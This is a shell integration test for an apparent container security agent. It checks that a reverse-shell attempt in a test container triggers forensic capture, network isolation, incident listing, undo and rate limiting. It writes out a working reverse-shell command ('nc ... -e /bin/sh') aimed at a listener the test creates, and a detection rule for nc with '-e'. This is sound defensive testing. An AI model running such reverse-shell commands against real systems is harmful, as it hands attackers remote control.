#!/bin/sh
# Capture and incidents (docs/response.md) with real containers on a docker
# network this test creates: a rule with [capture, isolate] fires on a
# reverse-shell attempt; the container keeps running and its connect to a
# listener it reached before now gets EPERM, and a container that reached it
# cannot connect in; the bundle holds the window as a recording `palisade
# replay` reads back (the attack's exec in it), the manifest's hashes verify
# and the audit log holds the manifest's hash; `palisade incidents` lists it;
# --undo restores; a flood writes at most capture.per_minute bundles and
# counts the rest; audit mode reports would-have for each step and writes
# nothing.
. tests/integration/lib.sh

NET=respond-capnet
SRV=172.31.223.10
VIC=172.31.223.11
docker network rm "$NET" >/dev/null 2>&1
if ! docker network create --subnet 172.31.223.0/24 "$NET" >/dev/null; then
	not_ok "docker network $NET could not be created"
	exit 1
fi
trap 'cleanup; docker network rm "$NET" >/dev/null 2>&1' EXIT INT TERM

SOCK="$WORK/status.sock"
CAP="$WORK/captures"
cat >"$WORK/rules.yaml" <<'RULES'
- rule: respond reverse shell
  desc: nc hands a shell to a remote end
  condition: evt.type in (execve, execveat) and proc.name = nc and proc.args contains "-e" and container.name startswith "respond-cap-"
  output: "reverse shell attempt (%proc.cmdline)"
  priority: CRITICAL
  action: [capture, isolate]
- rule: respond capture flood
  desc: the flood marker
  condition: evt.type in (execve, execveat) and proc.exe = respond-flood-me
  output: "flood marker (%proc.cmdline)"
  priority: WARNING
  action: {type: capture, scope: containers}
RULES
cat >"$WORK/config.yaml" <<CFG
outputs:
  - type: file
    path: $WORK/alerts.json
  - type: audit_log
    path: $WORK/audit.log
status:
  socket: $SOCK
rules:
  files: [$WORK/rules.yaml]
capture:
  dir: $CAP
  window_s: 60
  per_minute: 3
CFG

run_container respond-cap-srv --network "$NET" --ip "$SRV" "$IMAGE" sh -c \
	'nc -ll -p 22301 -e /bin/cat'
run_container respond-cap-v1 --network "$NET" --ip "$VIC" "$IMAGE" sh -c \
	'nc -ll -p 22302 -e /bin/cat'
run_container respond-cap-peer --network "$NET" "$IMAGE" sleep 600
V1=$(container_id respond-cap-v1 | cut -c1-12)

# Every exec bounded: another agent on this machine may pause a container.
tcp() { timeout 30 docker exec "$1" sh -c "echo hi | nc -w 2 $2 $3 2>&1; echo rc=\$?"; }
denied() { case "$1" in *"not permitted"*) return 0 ;; esac; echo "not denied: $1" >&2; return 1; }
allowed() { case "$1" in *hi*rc=0*) return 0 ;; esac; echo "not allowed: $1" >&2; return 1; }
cut_in() { case "$1" in *hi*) echo "got through: $1" >&2; return 1 ;; esac; return 0; }
running() { [ "$(docker inspect -f '{{.State.Running}}' "$1")" = true ]; }
bundles() { find "$CAP" -mindepth 1 -maxdepth 1 -type d 2>/dev/null | wc -l; }

start_agent_with -c "$WORK/config.yaml" --enforce || exit 1
check "the plan serves capture" grep -q "respond reverse shell: .*forensic bundle" "$WORK/agent.err"

check "before: the victim reaches the listener" allowed "$(tcp respond-cap-v1 $SRV 22301)"
check "before: a peer reaches the victim" allowed "$(tcp respond-cap-peer $VIC 22302)"

# The attack: a reverse shell to the listener's network.
# (detached: the shell it hands over waits on the socket)
docker exec -d respond-cap-v1 nc -w 2 $SRV 22301 -e /bin/sh
rec=$(wait_alert '.rule=="respond reverse shell"' 20)
check "capture then isolate, both done, one record" expect "$rec" \
	'([.palisade_playbook.steps[] | .type] == ["capture","isolate"]) and ([.palisade_playbook.steps[] | .outcome] | all(. == "done"))'
check "the container still runs" running respond-cap-v1
check "isolated: its connect gets EPERM" denied "$(tcp respond-cap-v1 $SRV 22301)"
check "isolated: a peer cannot connect in" cut_in "$(tcp respond-cap-peer $VIC 22302)"

B=$(printf '%s\n' "$rec" | jq -r '.palisade_playbook.steps[0].bundle')
H=$(printf '%s\n' "$rec" | jq -r '.palisade_playbook.steps[0].manifest_sha256')
check "the bundle exists" test -f "$B/manifest.json"
check "the manifest's hash is the record's" sh -c "sha256sum '$B/manifest.json' | grep -q '^$H '"
verify() {
	jq -r '.files[] | "\(.sha256)  \(.name)"' "$B/manifest.json" >"$WORK/sums"
	[ "$(wc -l <"$WORK/sums")" -ge 6 ] && (cd "$B" && sha256sum -c --quiet "$WORK/sums")
}
check "every file of the manifest verifies (6 and more)" verify
check "the audit log holds the manifest's hash" grep -q "\"manifest_sha256\":\"$H\"" "$WORK/audit.log"
check "the process tree names the listener" sh -c \
	"jq -e '[.[] | select(.cmdline[0] == \"nc\" and .cwd != null and .uids != null and .CapEff != null and (.fds | length) > 0)] | length > 0' '$B/processes.json' >/dev/null"
check "inspect data is there" sh -c "jq -e '.Id | startswith(\"$V1\")' '$B/inspect.json' >/dev/null"
check "the listening socket is there" sh -c \
	"jq -e '[.[] | select(.state == \"LISTEN\" and (.local | endswith(\":22302\")))] | length == 1' '$B/network.json' >/dev/null"
./palisade replay --no-rules -e "$WORK/replay.json" "$B/events.rec" 2>"$WORK/replay.err" >/dev/null
attack_replayed() {
	[ "$(grep -F '"execve"' "$WORK/replay.json" |
		jq -c 'select((.proc.cmdline // "" | test("nc .*-e /bin/sh")) and .container.name == "respond-cap-v1")' |
		wc -l)" -ge 1 ]
}
check "palisade replay reads the window and shows the attack's exec" attack_replayed
out=$(./palisade incidents --log "$WORK/audit.log" --json)
check "palisade incidents lists it with its bundle" expect "$out" \
	"[.[] | select(.rule==\"respond reverse shell\") | .actions[] | select(.type==\"capture\" and .manifest_sha256==\"$H\")] | length == 1"
./palisade incidents --log "$WORK/audit.log" >"$WORK/incidents.txt"
check "... and as text" grep -q "bundle $B" "$WORK/incidents.txt"

out=$(./palisade isolate --socket "$SOCK" --undo respond-cap-v1)
check "--undo answers" expect "\"$out\"" 'test("isolation lifted")'
check "--undo restores the connect" allowed "$(tcp respond-cap-v1 $SRV 22301)"
check "--undo lets a peer in again" allowed "$(tcp respond-cap-peer $VIC 22302)"

# A flood: at most per_minute (3) bundles in any minute (one may be the
# attack's), the rest recorded rate-limited and counted.
timeout 30 docker exec respond-cap-peer sh -c \
	'for i in 1 2 3 4 5 6; do (exec -a respond-flood-me sh -c true); done' >/dev/null 2>&1
flood() { grep -F 'flood marker' "$WORK/alerts.json" | jq -c "select($1)" | wc -l; }
deadline=$(($(date +%s) + 30))
while [ "$(flood '.palisade_action.type=="capture"')" -lt 6 ] && [ "$(date +%s)" -lt "$deadline" ]; do
	sleep 0.2
done
done_n=$(flood '.palisade_action.outcome=="done"')
lim=$(flood '.palisade_action.outcome=="failed" and (.palisade_action.detail|test("rate-limited"))')
flood_ok() { [ "$done_n" -ge 1 ] && [ "$done_n" -le 3 ] && [ $((done_n + lim)) -eq 6 ]; }
check "the flood: at most 3 bundles, the rest rate-limited ($done_n, $lim)" flood_ok
check "one directory per bundle written" [ "$(bundles)" -eq $((done_n + 1)) ]
stop_agent
check "the exit line counts them" \
	grep -q "captures: $((done_n + 1)) written, 0 failed, $lim rate-limited" "$WORK/agent.err"

# Audit mode: would-have for each step; no bundle, no isolation.
mv "$WORK/alerts.json" "$WORK/alerts-enforce.json"
rm -rf "$CAP"
start_agent_with -c "$WORK/config.yaml" || exit 1
docker exec -d respond-cap-v1 nc -w 1 $SRV 22399 -e /bin/true
rec=$(wait_alert '.rule=="respond reverse shell"' 20)
check "audit mode: would-have for each step" expect "$rec" \
	'[.palisade_playbook.steps[] | .outcome] == ["would-have","would-have"]'
check "audit mode: no bundle" [ "$(bundles)" -eq 0 ]
check "audit mode: the connect works" allowed "$(tcp respond-cap-v1 $SRV 22301)"
stop_agent
